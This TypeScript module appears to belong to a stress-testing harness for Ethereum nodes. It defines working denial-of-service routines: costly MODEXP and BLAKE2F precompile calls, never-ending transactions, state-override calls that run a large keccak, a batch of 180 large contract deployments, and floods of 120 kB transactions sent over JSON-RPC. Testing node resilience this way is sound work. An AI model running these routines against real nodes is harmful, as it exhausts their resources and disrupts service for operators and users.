import { type Hex, numberToHex } from "viem";
import { pause } from "../pause.ts";
import { accounts, type Draft, signDraft } from "../workload.ts";
import {
  blakeRounds,
  callsInTurn,
  createdBy,
  ENDLESS_EXP,
  ENDLESS_KECCAK,
  ENDLESS_LOOP,
  HUGE_LENGTH,
  LARGE_KECCAK,
  largeContract,
  powerOf,
} from "./costlyCode.ts";
import type { Attack, Target } from "./target.ts";

const MODEXP: Hex = "0x0000000000000000000000000000000000000005";
const BLAKE2F: Hex = "0x0000000000000000000000000000000000000009";
const SOME_CONTRACT: Hex = "0x00000000000000000000000000000000c0dec0de";
const LARGE_CONTRACTS = 180;
/** The deployments take a few blocks. */
const DEPLOYED_WITHIN_MS = 60_000;
const ENDLESS_GAS = 30_000_000n;

/** Each second a transaction of 672,000 gas with an exponent of 200 KB, and calls that state lengths of 80 MB. */
export async function sendPowers(target: Target, isOver: () => boolean): Promise<void> {
  const call = { to: MODEXP, data: HUGE_LENGTH };
  await everySecond(isOver, async (second) => {
    ask(target, "eth_call", [call, "latest"]);
    ask(target, "eth_estimateGas", [call]);
    await send(target, second, { data: powerOf(200_000), gasLimit: 760_000n });
  });
}

/** Twelve transactions at a time that never end within 30M gas, and calls that hash 200 MB or mix 2^32 rounds. */
export async function sendEndlessWork(target: Target, isOver: () => boolean): Promise<void> {
  const codes = [ENDLESS_LOOP, ENDLESS_KECCAK, ENDLESS_EXP];
  await everySecond(isOver, async (second) => {
    ask(target, "eth_call", [
      { to: BLAKE2F, data: blakeRounds(2 ** 32 - 1), gas: "0x7fffffffffff" },
      "latest",
    ]);
    const overrides = { [SOME_CONTRACT]: { code: LARGE_KECCAK } };
    ask(target, "eth_call", [{ to: SOME_CONTRACT, gas: "0x7fffffffffff" }, "latest", overrides]);
    if (second % 3 !== 0) return;
    for (let index = 0; index < 12; index++) {
      const data = codes[index % codes.length];
      const draft =
        index % 4 === 3 || data === undefined
          ? { to: BLAKE2F, data: blakeRounds(29_000_000), gasLimit: ENDLESS_GAS }
          : { data, gasLimit: ENDLESS_GAS };
      await send(target, index, draft);
    }
  });
}

/** Deploys 180 contracts of 24 KB, then sends each second a transaction of 3M gas that calls them in turn. */
export async function prepareCallsInTurn(target: Target): Promise<Attack> {
  const contracts = await deployLargeContracts(target);
  return (_, isOver) => sendCallsInTurn(contracts, target, isOver);
}

function sendCallsInTurn(contracts: readonly Hex[], target: Target, isOver: () => boolean): Promise<void> {
  return everySecond(isOver, (second) =>
    send(target, 1 + (second % 9), { data: callsInTurn(contracts), gasLimit: 3_000_000n }),
  );
}

/** 200 transactions of 120 kB at once, and as many again as are mined. */
export async function sendLargeTransactions(target: Target, isOver: () => boolean): Promise<void> {
  const data: Hex = `0x${"00".repeat(120_000)}`;
  while (!isOver()) {
    for (let index = 0; index < 200 && !isOver(); index++) {
      const to = numberToHex(0x1000_0000 + index, { size: 20 });
      await send(target, index % accounts.length, { to, data, gasLimit: 1_300_000n });
    }
    await pause(2000);
  }
}

/** As many as fit into a block of 400M gas. Resolves when they are deployed; throws at a time limit. */
async function deployLargeContracts(target: Target): Promise<readonly Hex[]> {
  const [deployer] = accounts;
  if (deployer === undefined) throw new Error("no account");
  const firstNonce = Number(
    await target.client.call<string>("eth_getTransactionCount", [deployer.address, "latest"]),
  );
  for (let index = 0; index < LARGE_CONTRACTS; index++) {
    const raw = signDraft(
      { data: largeContract(index), gasLimit: 6_000_000n },
      firstNonce + index,
      deployer.privateKey,
    );
    await target.client.call("eth_sendRawTransaction", [raw]);
  }
  const contracts = createdBy(deployer.address, firstNonce, LARGE_CONTRACTS);
  const giveUpAtMs = performance.now() + DEPLOYED_WITHIN_MS;
  while (performance.now() < giveUpAtMs) {
    const code = await target.client.call<string>("eth_getCode", [contracts.at(-1), "latest"]);
    if (code.length > 2) return contracts;
    await pause(200);
  }
  throw new Error(`${LARGE_CONTRACTS} contracts are not deployed after ${DEPLOYED_WITHIN_MS / 1000} s`);
}

async function everySecond(isOver: () => boolean, act: (second: number) => Promise<void>): Promise<void> {
  for (let second = 0; !isOver(); second++) {
    const begunMs = performance.now();
    await act(second);
    await pause(Math.max(0, 1000 - (performance.now() - begunMs)));
  }
}

/** Ignores responses and failures. */
function ask(target: Target, method: string, params: readonly unknown[]): void {
  target.client.call(method, params).catch(() => undefined);
}

async function send(target: Target, sender: number, draft: Draft): Promise<void> {
  const account = accounts[sender % accounts.length];
  if (account === undefined) return;
  try {
    const nonce = await target.client.call<string>("eth_getTransactionCount", [account.address, "pending"]);
    const raw = signDraft(draft, Number(nonce), account.privateKey);
    await target.client.call("eth_sendRawTransaction", [raw]);
  } catch {
    // The node may refuse.
  }
}
